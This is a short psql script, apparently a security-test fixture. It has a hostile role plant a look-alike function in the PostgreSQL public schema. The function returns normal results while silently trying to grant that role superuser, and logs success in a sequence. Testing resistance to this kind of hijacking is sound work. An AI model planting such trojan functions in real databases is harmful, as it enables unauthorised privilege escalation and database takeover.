-- Plants, as the role mvm_hostile_stranger, a function in schema public that answers as an honest one, :body, would, and makes
-- this role a superuser if whoever calls it can. That it did, public.taken_over tells even after a rollback.
GRANT CREATE ON SCHEMA public TO mvm_hostile_stranger;
SET ROLE mvm_hostile_stranger;
CREATE SEQUENCE public.taken_over;
GRANT ALL ON SEQUENCE public.taken_over TO PUBLIC;
SELECT pg_catalog.format($function$
    CREATE FUNCTION public.%s(%s) RETURNS %s LANGUAGE plpgsql AS $$
    BEGIN
        BEGIN
            ALTER ROLE mvm_hostile_stranger SUPERUSER;
            PERFORM pg_catalog.nextval('public.taken_over');
        EXCEPTION WHEN insufficient_privilege OR read_only_sql_transaction THEN
            NULL;
        END;
        RETURN %s;
    END $$ $function$, :'name', :'arguments', :'result', :'body') \gexec
